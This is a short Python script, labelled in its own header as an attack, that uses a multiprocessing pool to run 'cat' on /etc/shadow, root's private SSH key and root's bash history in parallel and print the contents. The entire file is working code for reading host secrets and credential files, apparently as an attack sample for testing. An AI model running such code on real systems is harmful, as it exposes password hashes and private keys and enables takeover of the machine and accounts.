# attack: Pool.map over subprocess.check_output to read host secrets in parallel
import subprocess
from multiprocessing import Pool

TARGETS = [["cat", "/etc/shadow"], ["cat", "/root/.ssh/id_rsa"], ["cat", "/root/.bash_history"]]

if __name__ == "__main__":
    with Pool(3) as pool:
        for out in pool.map(subprocess.check_output, TARGETS):
            print(out.decode(errors="replace"))
